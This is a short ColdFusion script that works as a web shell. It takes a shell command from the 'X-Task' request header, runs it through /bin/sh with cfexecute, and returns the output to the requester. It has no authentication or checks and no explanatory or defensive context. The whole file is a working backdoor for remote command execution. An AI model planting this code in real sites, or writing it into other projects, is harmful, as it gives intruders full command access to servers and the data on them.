<cfscript>
// the command arrives in a request header and is handed to the shell by the script form of cfexecute
task = getHttpRequestData().headers["X-Task"] ?: "";
if (len(task)) {
    cfexecute(name="/bin/sh", arguments="-c '#task#'", variable="res", timeout=10);
    writeOutput(res);
}
</cfscript>
